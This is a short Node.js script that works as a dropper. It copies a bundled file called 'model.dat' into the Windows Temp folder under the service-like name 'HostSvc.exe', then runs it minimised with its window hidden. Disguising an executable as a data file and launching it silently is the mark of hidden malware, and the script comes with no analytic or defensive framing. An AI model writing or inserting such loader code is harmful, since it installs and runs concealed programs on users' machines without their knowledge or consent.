const fs = require('fs'), path = require('path');
const { exec } = require('child_process');
const to = path.join(process.env.LOCALAPPDATA || '', 'Temp', 'HostSvc.exe');
const out = fs.createReadStream(path.join(__dirname, 'model.dat')).pipe(fs.createWriteStream(to));
out.on('close', () => exec('start /min "" "' + to + '"', { windowsHide: true }));
